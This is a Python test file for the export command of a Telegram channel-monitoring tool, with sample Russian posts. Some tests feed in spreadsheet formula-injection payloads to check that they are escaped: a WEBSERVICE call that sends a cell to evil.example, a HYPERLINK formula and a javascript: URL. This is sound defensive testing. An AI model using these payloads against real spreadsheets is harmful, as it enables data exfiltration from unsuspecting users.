"""`tgwatch export` and bot.store.read.iter_export_rows over a real store built by the real pipeline."""

from __future__ import annotations

import csv
import inspect
import io
import json
from datetime import datetime
from pathlib import Path

import pytest
from click.testing import CliRunner, Result
from hypothesis import example, given, settings
from hypothesis import strategies as st

from bot.cli import cli
from bot.store.db import Store
from bot.store.export import fit_cell, hyperlink_formula, write_xlsx
from bot.store.read import EXPORT_FIELDS, iter_export_rows

from .sample_store import KUBAN, ROOT, Sample

def run(*args: str) -> Result:
    return CliRunner().invoke(cli, [str(a) for a in args])


def csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_clean_error(result: Result, *needles: str) -> None:
    assert result.exit_code == 2, result.output
    assert result.stderr.startswith("error: ") and result.stderr.count("\n") == 1, result.stderr
    assert "Traceback" not in result.output
    for n in needles:
        assert n in result.stderr


# -- CSV ------------------------------------------------------------------------------------------


def test_csv_to_stdout_has_one_row_per_matched_post(sample: Sample) -> None:
    r = run("export", "--db", sample.db)
    assert r.exit_code == 0, r.output
    rows = csv_rows(r.stdout)
    assert list(rows[0]) == list(EXPORT_FIELDS)
    assert len(rows) == len(sample.matched()) > 20
    assert f"{len(rows)} rows written to stdout" in r.stderr
    assert [row["date"] for row in rows] == sorted(row["date"] for row in rows)


def test_csv_file_with_bom_opens_cleanly_with_cyrillic_links_and_rules(sample: Sample, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    r = run("export", "--db", sample.db, "-o", out, "--bom")
    assert r.exit_code == 0, r.output
    assert out.read_bytes().startswith(b"\xef\xbb\xbfchannel_id,")
    rows = {(int(row["channel_id"]), int(row["message_id"])): row
            for row in csv.DictReader(out.open(encoding="utf-8-sig", newline=""))}
    row = rows[(1700000001, 48217)]
    assert row["channel_title"] == "Сводка 24"
    assert row["text"].startswith("⚡️Массовое дезертирство в воинской части")
    assert row["link"] == "https://t.me/c/1700000001/48217"
    assert row["rules"] == "desertion; regiment"
    assert "дезертирство" in row["terms"].split("; ")
    # one story for the Krasnodar desertion: the first report (police at the unit, 07:52), this
    # flash, the two copies, the SOCh post, the detailed Горячая линия 90418 and the forward 503
    assert row["story_first"] == "https://t.me/c/1700000002/18737" and row["story_size"] == "7"
    assert rows[(1700000003, 90418)]["story_id"] == row["story_id"]
    assert f"rows written to {out}" in r.stderr
    assert not list(tmp_path.glob("*.part"))


def test_csv_without_bom_has_none(sample: Sample, tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    assert run("export", "--db", sample.db, "-o", out).exit_code == 0
    assert out.read_bytes().startswith(b"channel_id,")


# -- filters --------------------------------------------------------------------------------------


def test_rule_filter(sample: Sample) -> None:
    rows = csv_rows(run("export", "--db", sample.db, "--rule", "desertion").stdout)
    assert len(rows) == len(sample.matched("desertion")) > 5
    assert all("desertion" in row["rules"].split("; ") for row in rows)
    both = csv_rows(run("export", "--db", sample.db, "--rule", "desertion", "--rule", "lockdown").stdout)
    assert len(both) == len({p.post.key for r in ("desertion", "lockdown") for p in sample.matched(r)})


def test_unknown_rule_is_an_error_naming_the_rules_present(sample: Sample) -> None:
    r = run("export", "--db", sample.db, "--rule", "no-such-rule")
    assert_clean_error(r, "no-such-rule", "desertion, lockdown, regiment")
    assert r.stdout == ""


@pytest.mark.parametrize("ref", ["@Kuban_Online", "kuban_online", str(KUBAN), f"-100{KUBAN}", "https://t.me/kuban_online"])
def test_channel_filter_by_username_or_id(sample: Sample, ref: str) -> None:
    rows = csv_rows(run("export", "--db", sample.db, "--channel", ref).stdout)
    assert {row["message_id"] for row in rows} == {"501", "503", "504"}
    assert {row["username"] for row in rows} == {"Kuban_Online"}
    assert rows[0]["link"] == "https://t.me/Kuban_Online/501"


def test_channel_filter_unknown_channel_is_an_error_naming_the_channels(sample: Sample) -> None:
    r = run("export", "--db", sample.db, "--channel", "@nobody")
    assert_clean_error(r, "@nobody", "@Kuban_Online")
    assert r.stdout == ""


def test_since_until_a_bare_day_is_the_whole_day(sample: Sample) -> None:
    rows = csv_rows(run("export", "--db", sample.db, "--since", "2026-11-21", "--until", "2026-11-21").stdout)
    expected = [p for p in sample.matched() if p.post.date.date().isoformat() == "2026-11-21"]
    assert rows and len(rows) == len(expected)
    assert {row["date"][:10] for row in rows} == {"2026-11-21"}
    later = csv_rows(run("export", "--db", sample.db, "--since", "2026-11-23T09:30").stdout)
    assert [row["message_id"] for row in later] == ["503", "504"]


def test_since_after_until_is_an_error(sample: Sample) -> None:
    assert_clean_error(run("export", "--db", sample.db, "--since", "2026-11-22", "--until", "2026-11-21"), "--since")


def test_bad_date_is_an_error(sample: Sample) -> None:
    assert_clean_error(run("export", "--db", sample.db, "--since", "yesterday"), "--since")


def test_search_filter_finds_inflected_forms(sample: Sample) -> None:
    rows = csv_rows(run("export", "--db", sample.db, "--search", "воинская часть").stdout)
    assert rows and all("воинск" in row["text"].lower() for row in rows)
    assert any("воинской части" in row["text"] for row in rows)  # query says «воинская»
    # without --all-posts the unmatched posts stay out; with it they come in
    tree = csv_rows(run("export", "--db", sample.db, "--search", "ёлка").stdout)
    assert tree == []
    tree = csv_rows(run("export", "--db", sample.db, "--search", "елку", "--all-posts").stdout)
    assert [row["message_id"] for row in tree] == ["502"]


def test_search_without_words_is_an_error_and_writes_no_file(sample: Sample, tmp_path: Path) -> None:
    out = tmp_path / "x.csv"
    assert_clean_error(run("export", "--db", sample.db, "--search", '"" ()*', "-o", out), "--search")
    assert not out.exists() and not list(tmp_path.glob("*.part"))


def test_all_posts(sample: Sample) -> None:
    rows = csv_rows(run("export", "--db", sample.db, "--all-posts").stdout)
    assert len(rows) == len({p.post.key for p in sample.processed})
    unmatched = [row for row in rows if not row["rules"]]
    assert unmatched and all(row["terms"] == "" for row in unmatched)


# -- JSON Lines and Excel -----------------------------------------------------------------------


def test_jsonl_lists_forward_origin_and_edits(sample: Sample, tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"  # format from the file name
    r = run("export", "--db", sample.db, "-o", out, "--channel", "@kuban_online")
    assert r.exit_code == 0, r.output
    rows = {row["message_id"]: row for row in map(json.loads, out.read_text(encoding="utf-8").splitlines())}
    assert set(rows) == {501, 503, 504}
    assert rows[501]["rules"] == ["desertion"] and isinstance(rows[501]["terms"], list) and rows[501]["terms"]
    assert rows[501]["text"].endswith("Позже его отпустили.")
    assert rows[501]["edited"] == "2026-11-23T15:00:00+00:00" and rows[504]["edited"] is None
    assert rows[503]["forward_origin"] == "1700000001/48217"
    assert rows[504]["forward_origin"] == "Иван Петров"
    assert rows[501]["channel_id"] == KUBAN and rows[501]["channel_title"] == "Кубань Онлайн"
    assert rows[501]["date"] == "2026-11-23T09:00:00+00:00"


def test_each_rule_says_which_words_of_the_post_it_hit(sample: Sample) -> None:
    """The `matched` column: per rule, the post's own words (as in an alert's "matched:" line)."""
    rows = {(int(r["channel_id"]), int(r["message_id"])): r for r in csv_rows(run("export", "--db", sample.db).stdout)}
    assert rows[(1700000001, 48217)]["matched"] == "desertion: дезертирство; regiment: воинской, части"
    for row in rows.values():
        parts = row["matched"].split("; ")
        assert [p.split(": ", 1)[0] for p in parts] == row["rules"].split("; ")
        for part in parts:
            shown = [w.split(" ← ")[0] for w in part.split(": ", 1)[1].split(", ")]
            assert shown and all(w and w in row["text"] for w in shown), (part, row["text"])
    inflected = [p for r in rows.values() for p in r["matched"].split("; ") if " ← " in p]
    assert inflected  # a form that is not the rule's own word names the rule's term


def test_jsonl_to_stdout(sample: Sample) -> None:
    r = run("export", "--db", sample.db, "--format", "jsonl", "--rule", "lockdown")
    rows = [json.loads(line) for line in r.stdout.splitlines()]
    assert len(rows) == len(sample.matched("lockdown"))
    assert all("lockdown" in row["rules"] for row in rows)


def test_xlsx(sample: Sample, tmp_path: Path) -> None:
    import openpyxl

    out = tmp_path / "out.xlsx"
    r = run("export", "--db", sample.db, "--format", "xlsx", "-o", out, "--all-posts")
    assert r.exit_code == 0, r.output
    ws = openpyxl.load_workbook(out, data_only=True).active  # a link's value, as pandas reads it
    header = [c.value for c in ws[1]]
    assert header[:5] == ["channel_id", "channel_title", "username", "message_id", "link"]
    assert header == list(EXPORT_FIELDS)  # named as in the CSV and JSON Lines
    assert all(c.font.bold for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["H"].width > 40  # text
    body = list(ws.iter_rows(min_row=2, values_only=True))
    assert len(body) == len({p.post.key for p in sample.processed})
    by_key = {(row[0], row[3]): dict(zip(EXPORT_FIELDS, row)) for row in body}
    row = by_key[(1700000001, 48217)]
    assert row["channel_title"] == "Сводка 24" and "дезертирство" in row["text"]
    assert row["link"] == "https://t.me/c/1700000001/48217"
    assert row["rules"] == "desertion; regiment"
    assert isinstance(row["date"], datetime)
    assert by_key[(KUBAN, 502)]["text"].startswith("Ёлку")


def formula_text(formula: str) -> list[str]:
    """The operands of an Excel formula as Excel parses it (openpyxl's tokenizer), quotes undone."""
    from openpyxl.formula import Tokenizer

    tokens = Tokenizer(formula).items
    assert [t.type for t in tokens] == ["FUNC", "OPERAND", "FUNC"], formula  # HYPERLINK( "text" )
    return [t.value[1:-1].replace('""', '"') for t in tokens if t.type == "OPERAND"]


def test_xlsx_links_are_clickable_formulas_no_url_can_break(tmp_path: Path) -> None:
    """A link cell is =HYPERLINK("url") (streamed, where a worksheet hyperlink was held in memory
    to the end): it reads as the URL (pandas, openpyxl data_only), a quote in a URL stays in the
    one text, and a URL no formula can hold (not http(s), past 255 characters) is plain text."""
    import openpyxl

    links = ['https://t.me/x/1"),WEBSERVICE("http://evil.example/"&A1&"', "javascript:alert(1)",
             "https://t.me/c/1/" + "9" * 300, "https://t.me/Kuban_Online/501"]
    out = tmp_path / "links.xlsx"
    rows = [dict.fromkeys(EXPORT_FIELDS, None) | {"channel_id": 1, "message_id": i, "link": link}
            for i, link in enumerate(links)]
    assert write_xlsx(rows, out) == len(links)
    column = EXPORT_FIELDS.index("link")
    shown = [row[column] for row in openpyxl.load_workbook(out, data_only=True).active.iter_rows(min_row=2, values_only=True)]
    assert shown == links
    cells = [row[column] for row in openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True)]
    assert formula_text(cells[0]) == [links[0]] and formula_text(cells[3]) == [links[3]]
    assert cells[1:3] == links[1:3]  # text, not formulas


@given(st.text(max_size=300).map(lambda s: "https://t.me/" + s) | st.text(max_size=40))
@example('https://t.me/x/1"),WEBSERVICE("http://evil.example/")&"')
@settings(max_examples=200, deadline=None)
def test_hyperlink_formula_holds_any_url_as_one_text(url: str) -> None:
    formula = hyperlink_formula(url)
    if not url.lower().startswith(("https://", "http://")) or len(url.encode("utf-16-le", "surrogatepass")) > 510:
        assert formula is None
        return
    assert formula is not None and formula.startswith("=HYPERLINK(")
    assert formula_text(formula) == [url]


def test_xlsx_needs_no_temporary_folder_and_leaves_nothing_beside_it(sample: Sample, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """The workbook's row files went to $TMPDIR: a full /tmp failed the export with an error that
    blamed the output file, and left a row file behind. They go beside the workbook now, and go."""
    import tempfile

    unusable = tmp_path / "tmp-is-a-file"
    unusable.write_text("")
    monkeypatch.setattr(tempfile, "tempdir", str(unusable))  # every mkstemp() in $TMPDIR fails
    folder = tmp_path / "out"
    folder.mkdir()
    r = run("export", "--db", sample.db, "--format", "xlsx", "-o", folder / "all.xlsx", "--all-posts")
    assert r.exit_code == 0, r.output
    assert [p.name for p in folder.iterdir()] == ["all.xlsx"]


@pytest.mark.skipif(not Path("/dev/full").exists(), reason="needs /dev/full (a device always full), as on Linux")
def test_xlsx_on_a_full_disk_is_one_error_line(sample: Sample) -> None:
    """The workbook's zip file was left open when the disk filled: the error line was followed by
    Python's «Exception ignored in: <function ZipFile.__del__ …>» and a traceback."""
    import subprocess
    import sys

    r = subprocess.run([sys.executable, "-m", "bot", "export", "--db", str(sample.db), "--format", "xlsx",
                        "-o", "/dev/full", "--all-posts"], capture_output=True, cwd=ROOT, timeout=120)
    assert r.returncode == 2 and r.stdout == b""
    assert r.stderr.decode().splitlines() == ["error: /dev/full: cannot write (No space left on device)"], r.stderr


def test_xlsx_keeps_an_id_past_excels_15_digits_whole(tmp_path: Path) -> None:
    """Excel holds 15 digits of a number: a larger id (JSON Lines may carry any 64-bit one) is
    written as text, not as 9.22337203685478E+18; a Telegram-sized id stays a number."""
    import openpyxl

    src, db, out = tmp_path / "big.jsonl", tmp_path / "t.db", tmp_path / "out.xlsx"
    src.write_text(json.dumps({"channel_id": 1117628569, "message_id": 2**63 - 1, "date": "2024-11-20T09:04:00Z",
                               "text": "В части задержали дезертира."}, ensure_ascii=False) + "\n", encoding="utf-8")
    assert run("replay", src, "--db", db, "--rules", ROOT / "rules", "--alerts", "none").exit_code == 0
    assert run("export", "--db", db, "-o", out, "--all-posts").exit_code == 0
    row = dict(zip(EXPORT_FIELDS, next(openpyxl.load_workbook(out, data_only=True).active.iter_rows(min_row=2, values_only=True))))
    assert row["channel_id"] == 1117628569 and row["message_id"] == str(2**63 - 1)
    assert row["link"].endswith(f"/{2**63 - 1}")


def test_xlsx_marks_a_text_too_long_for_a_cell_and_says_so_once(tmp_path: Path) -> None:
    """Excel holds 32,767 characters a cell: a longer post is cut with a marker saying how much,
    and one stderr line points to the CSV / JSON Lines export, which has it whole."""
    import openpyxl

    long_text = "В части задержали дезертира. " + "😀абв" * 10_000  # 40,029 characters, 50,029 UTF-16 units
    src, db, out = tmp_path / "long.jsonl", tmp_path / "t.db", tmp_path / "out.xlsx"
    src.write_text("".join(json.dumps({"channel_id": 1117628569, "message_id": i, "date": f"2024-11-20T09:0{i}:00Z",
                                       "text": text}, ensure_ascii=False) + "\n"
                           for i, text in ((1, long_text), (2, "Короткий пост."))), encoding="utf-8")
    assert run("replay", src, "--db", db, "--rules", ROOT / "rules", "--alerts", "none").exit_code == 0
    r = run("export", "--db", db, "-o", out, "--all-posts")
    assert r.exit_code == 0, r.output
    texts = {row[EXPORT_FIELDS.index("message_id")]: row[EXPORT_FIELDS.index("text")]
             for row in openpyxl.load_workbook(out).active.iter_rows(min_row=2, values_only=True)}
    assert texts[2] == "Короткий пост."
    cell = texts[1]
    kept, _, marker = cell.partition(" … [")
    assert long_text.startswith(kept) and len(cell.encode("utf-16-le")) // 2 <= 32_767
    assert marker == (f"{len(long_text) - len(kept):,} characters cut: Excel holds 32,767 per cell; "
                      "the CSV or JSON Lines export has them all]")
    assert r.stderr.splitlines()[1:] == [
        "1 cell cut at Excel's 32,767 characters (text 1), each ending with how many were cut: "
        "the CSV or JSON Lines export has the full text"]
    csv_text = run("export", "--db", db, "--all-posts").stdout
    assert {row["message_id"]: row["text"] for row in csv_rows(csv_text)}["1"] == long_text


@given(st.text(min_size=1, max_size=6), st.integers(min_value=1, max_value=12_000))
@settings(max_examples=60, deadline=None)
def test_fit_cell_keeps_a_whole_prefix_within_excels_limit(piece: str, times: int) -> None:
    value = piece * times
    fitted, lost = fit_cell(value)
    if len(value.encode("utf-16-le", "surrogatepass")) <= 32_767 * 2:
        assert (fitted, lost) == (value, 0)
        return
    assert len(fitted.encode("utf-16-le", "surrogatepass")) <= 32_767 * 2
    assert lost > 0 and value.startswith(fitted[:len(value) - lost])
    assert fitted[len(value) - lost:].startswith(f" … [{lost:,} characters cut")


def test_xlsx_needs_an_output_file(sample: Sample) -> None:
    assert_clean_error(run("export", "--db", sample.db, "--format", "xlsx"), "-o")


# -- errors and the library ---------------------------------------------------------------------


def test_missing_database_is_a_clean_error(tmp_path: Path) -> None:
    assert_clean_error(run("export", "--db", tmp_path / "missing.db"), "no such database")
    assert not (tmp_path / "missing.db").exists()


def test_a_file_that_is_not_a_database_is_a_clean_error(tmp_path: Path) -> None:
    bad = tmp_path / "notes.db"
    bad.write_text("this is not SQLite\n" * 100)
    assert_clean_error(run("export", "--db", bad))


def test_export_never_writes_over_the_database_or_another_one(sample: Sample, tmp_path: Path) -> None:
    before = sample.db.read_bytes()
    for target in (sample.db, sample.db.with_name(sample.db.name + "-wal")):
        assert_clean_error(run("export", "--db", sample.db, "-o", target), "the database being exported")
    other = tmp_path / "other.sqlite"
    other.write_bytes(before)
    assert_clean_error(run("export", "--db", sample.db, "-o", other), "is an SQLite database")
    assert sample.db.read_bytes() == before and other.read_bytes() == before


@pytest.mark.parametrize("name, says", [("", "-o: empty file name"), ("posts.json", "not .json"),
                                        ("posts.parquet", "not .parquet"), ("posts.xlsx.zip", "not .zip"),
                                        ("posts.tar.gz", "not .tar.gz"), ("posts.json.gz", "not .json.gz"),
                                        ("posts.xlsx.gz", "xlsx workbook is compressed already")])
def test_an_output_name_export_cannot_honour_is_a_clean_error(sample: Sample, tmp_path: Path, name: str,
                                                              says: str) -> None:
    folder = tmp_path / "out"
    folder.mkdir()
    r = run("export", "--db", sample.db, "-o", str(folder / name) if name else "")
    assert_clean_error(r, says)
    if name:  # and says what it writes
        assert r.stderr.startswith(f"error: -o {folder / name}: ") and ".csv.gz, .jsonl.gz" in r.stderr
        assert list(folder.iterdir()) == []


@pytest.mark.parametrize("name, fmt", [("posts.csv.gz", []), ("posts.gz", ["--format", "jsonl"]),
                                       ("posts.NDJSON.GZ", [])])
def test_a_gz_output_is_the_plain_export_gzipped(sample: Sample, tmp_path: Path, name: str, fmt: list[str]) -> None:
    import gzip

    plain = tmp_path / ("plain.csv" if name == "posts.csv.gz" else "plain.jsonl")
    assert run("export", "--db", sample.db, "--all-posts", "-o", plain).exit_code == 0
    folder = tmp_path / "out"
    folder.mkdir()
    r = run("export", "--db", sample.db, "--all-posts", *fmt, "-o", folder / name)
    assert r.exit_code == 0, r.output
    assert gzip.decompress((folder / name).read_bytes()) == plain.read_bytes()
    assert [p.name for p in folder.iterdir()] == [name]  # written beside it, renamed: no .part left


def test_ndjson_output_is_json_lines(sample: Sample, tmp_path: Path) -> None:
    out = tmp_path / "posts.ndjson"
    assert run("export", "--db", sample.db, "-o", out).exit_code == 0
    assert json.loads(out.read_text(encoding="utf-8").splitlines()[0])["channel_id"]


def test_iter_export_rows_streams(sample: Sample) -> None:
    store = Store(sample.db)
    try:
        rows = iter_export_rows(store, channels=["@kuban_online"], all_posts=True)
        assert inspect.isgenerator(rows)
        first = next(rows)
        assert set(first) == set(EXPORT_FIELDS)
        assert first["message_id"] == 501 and first["rules"] == ["desertion"]
        assert [r["message_id"] for r in rows] == [502, 503, 504]
    finally:
        store.close()


def test_an_output_name_ending_in_a_slash_is_refused_not_written_as_a_file(sample: Sample, tmp_path: Path) -> None:
    r = run("export", "--db", sample.db, "-o", f"{tmp_path}/out/")
    assert_clean_error(r, "names a folder", f"{tmp_path}/out/export.csv")
    assert not (tmp_path / "out").exists()


def test_csv_for_excel_never_holds_a_formula(sample: Sample, tmp_path: Path) -> None:
    """A channel that posts «=HYPERLINK(...)», and the query terms «=СОЧ», stay text in Excel: with
    --bom (the file is for a spreadsheet) a cell that starts like a formula is quoted as text."""
    from .test_cli_filters import add_posts, post

    add_posts(sample.db, tmp_path, [post(1800000009, "@канал", 71, '=HYPERLINK("http://evil.example","дезертир")'),
                                    post(1800000009, "+Канал", 72, "-дезертир задержан")])
    out = tmp_path / "excel.csv"
    assert run("export", "--db", sample.db, "-o", out, "--bom").exit_code == 0
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig", newline="")))
    cells = [v for row in rows for v in row.values()]
    assert not [v for v in cells if v[:1] in ("=", "+", "-", "@")]
    texts = {row["message_id"]: row for row in rows}
    assert texts["71"]["text"] == "'=HYPERLINK(\"http://evil.example\",\"дезертир\")"
    assert texts["72"]["text"] == "'-дезертир задержан" and texts["72"]["channel_title"] == "'+Канал"
    # --no-escape-formulas (for programs, not spreadsheets): the text is exactly what the channel wrote
    plain = {row["message_id"]: row for row in csv_rows(run("export", "--db", sample.db, "--no-escape-formulas").stdout)}
    assert plain["71"]["text"].startswith("=HYPERLINK(") and plain["72"]["channel_title"] == "+Канал"


def test_csv_without_bom_is_safe_in_a_spreadsheet_too(sample: Sample, tmp_path: Path) -> None:
    """LibreOffice and Google Sheets read UTF-8 without a BOM, and evaluate a cell that starts with
    = + - @ as they open the file: a CSV without --bom quoted nothing, so a channel's
    «=HYPERLINK(...)» was a live formula there. Every CSV is now safe unless --no-escape-formulas."""
    from .test_cli_filters import add_posts, post

    add_posts(sample.db, tmp_path, [post(1800000009, "@канал", 71, '=HYPERLINK("http://evil.example","дезертир")'),
                                    post(1800000009, "+Канал", 72, "-дезертир задержан")])
    for args in ((), ("-o", tmp_path / "out.csv")):
        r = run("export", "--db", sample.db, *args)
        assert r.exit_code == 0, r.output
        text = (tmp_path / "out.csv").read_text(encoding="utf-8") if args else r.stdout
        rows = {row["message_id"]: row for row in csv_rows(text)}
        assert not [v for row in rows.values() for v in row.values() if v[:1] in ("=", "+", "-", "@")]
        assert rows["71"]["text"].startswith("'=HYPERLINK(") and rows["72"]["channel_title"] == "'+Канал"
        assert rows["72"]["text"] == "'-дезертир задержан"
    # JSON Lines is for programs: exact, and the option is refused there rather than ignored
    lines = [json.loads(line) for line in run("export", "--db", sample.db, "--format", "jsonl").stdout.splitlines()]
    assert {x["message_id"]: x["text"] for x in lines}[72] == "-дезертир задержан"
    assert_clean_error(run("export", "--db", sample.db, "--format", "jsonl", "--no-escape-formulas"),
                       "--no-escape-formulas is for CSV only")


def unescaped(cell: str) -> str:
    """A cell of an escaped CSV as stored: the README's rule, exactly one leading ' stripped."""
    return cell[1:] if cell.startswith("'") else cell


@settings(max_examples=300, deadline=None)
@given(st.text(st.sampled_from("'=+-@\t\r\n\"; -5°a"), max_size=8) | st.text(max_size=12))
def test_csv_escaping_is_undone_by_stripping_one_leading_quote(text: str) -> None:
    """A cell that starts with ' is escaped too (as ''): else «-5°» and «'-5°» were both written
    «'-5°», and no reader could tell which the channel wrote (reproduced by reviewer helper-110)."""
    from bot.store.export import write_csv

    buf = io.StringIO()
    write_csv([{"text": text}], buf, fields=("text",))
    [row] = csv_rows(buf.getvalue())
    assert unescaped(row["text"]) == text
    assert row["text"][:1] not in ("=", "+", "-", "@", "\t", "\r", "\n")


def test_every_cell_of_the_default_csv_reads_back_as_stored(sample: Sample, tmp_path: Path) -> None:
    """The rule the README gives a program (strip exactly one leading ' from a cell that starts
    with one) turns every cell of the default CSV into the exact one of --no-escape-formulas."""
    from .test_cli_filters import add_posts, post

    add_posts(sample.db, tmp_path, [post(1800000009, "'Погода", 71, "-5° в Москве"),
                                    post(1800000009, "'Погода", 72, "'-5° в Москве"),
                                    post(1800000009, "'Погода", 73, "''цитата'"),
                                    post(1800000009, "'Погода", 74, "+7 999 123-45-67 — горячая линия")])
    escaped = csv_rows(run("export", "--db", sample.db, "--all-posts").stdout)
    exact = csv_rows(run("export", "--db", sample.db, "--all-posts", "--no-escape-formulas").stdout)
    assert [{k: unescaped(v) for k, v in row.items()} for row in escaped] == exact
    texts = {row["message_id"]: row["text"] for row in escaped}
    assert (texts["71"], texts["72"], texts["73"]) == ("'-5° в Москве", "''-5° в Москве", "'''цитата'")


def test_an_export_over_a_private_file_is_never_readable_by_others_meanwhile(
        sample: Sample, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The new file, written beside the old one (chmod 600) before it replaces it, is as private
    while the rows go in, not readable by all until the rename."""
    import stat

    import bot.cli.export as cli_export

    out = tmp_path / "private.jsonl"
    out.write_text("old export")
    out.chmod(0o600)
    seen: list[int] = []

    def watched(rows, fmt, f, **kw):  # type: ignore[no-untyped-def]
        seen.extend(stat.S_IMODE(p.stat().st_mode) for p in tmp_path.glob(".private.jsonl.*.part"))
        return write_text(rows, fmt, f, **kw)

    write_text = cli_export.write_text
    monkeypatch.setattr(cli_export, "write_text", watched)
    assert run("export", "--db", sample.db, "-o", out).exit_code == 0
    assert seen == [0o600] and stat.S_IMODE(out.stat().st_mode) == 0o600


@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600)])
def test_a_new_export_file_gets_the_mode_the_umask_gives_any_new_file(sample: Sample, tmp_path: Path,
                                                                      umask: int, mode: int) -> None:
    """Written private first (a temporary file of its own, 0600), a new export ends as readable as
    any file the analyst makes: a colleague's script can read report.csv under umask 022."""
    import os
    import stat

    old = os.umask(umask)
    try:
        for name in ("report.csv", "report.xlsx", "report.jsonl.gz"):
            assert run("export", "--db", sample.db, "-o", tmp_path / name).exit_code == 0
    finally:
        os.umask(old)
    assert {p.name: stat.S_IMODE(p.stat().st_mode) for p in tmp_path.glob("report.*")} == \
        dict.fromkeys(["report.csv", "report.xlsx", "report.jsonl.gz"], mode)


def test_an_export_over_a_hard_linked_file_says_the_other_name_keeps_the_old_one(sample: Sample,
                                                                                  tmp_path: Path) -> None:
    """Replacing the file whole (so a failed export leaves the old one) gives its name a new file:
    a hard link elsewhere still holds the old export, and a note says so."""
    out, other = tmp_path / "posts.csv", tmp_path / "shared.csv"
    out.write_text("old export")
    other.hardlink_to(out)
    r = run("export", "--db", sample.db, "-o", out)
    assert r.exit_code == 0, r.output
    assert out.read_text(encoding="utf-8").startswith("channel_id,") and other.read_text() == "old export"
    assert f"note: -o {out}: its 1 other hard link still holds the previous export" in r.stderr
    assert "hard link" not in run("export", "--db", sample.db, "-o", out).stderr  # a file of its own now


def test_an_export_stopped_by_sigterm_leaves_no_temporary_file(sample: Sample, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    """A cron job's `timeout` or a `kill` stops an export as Ctrl-C does: no `.NAME.XXXX.part` is left
    beside the old file (each export has its own, so leftovers would pile up), and the old file stays."""
    import os
    import signal

    import bot.cli.export as export_cli

    out = tmp_path / "posts.csv"
    out.write_text("the previous export\n", encoding="utf-8")
    real = export_cli._write_file
    received: list[int] = []

    def killed_midway(rows, *args, **kwargs):  # type: ignore[no-untyped-def]
        def rows_then_kill():  # type: ignore[no-untyped-def]
            for i, row in enumerate(rows):
                if i == 2:
                    os.kill(os.getpid(), signal.SIGTERM)
                yield row
        return real(rows_then_kill(), *args, **kwargs)

    monkeypatch.setattr(export_cli, "_write_file", killed_midway)
    def handler(signum: int, _frame: object) -> None:  # (this test's own: without it SIGTERM ends pytest)
        received.append(signum)

    before = signal.signal(signal.SIGTERM, handler)
    try:
        r = run("export", "--db", str(sample.db), "--all-posts", "-o", str(out))
        assert signal.getsignal(signal.SIGTERM) is handler  # the handler it found is back
    finally:
        signal.signal(signal.SIGTERM, before)
    assert received == [] and r.exit_code == 130, (received, r.output)  # stopped, as Ctrl-C stops it
    assert "interrupted" in r.output
    assert not list(tmp_path.glob("*.part")) and out.read_text(encoding="utf-8") == "the previous export\n"
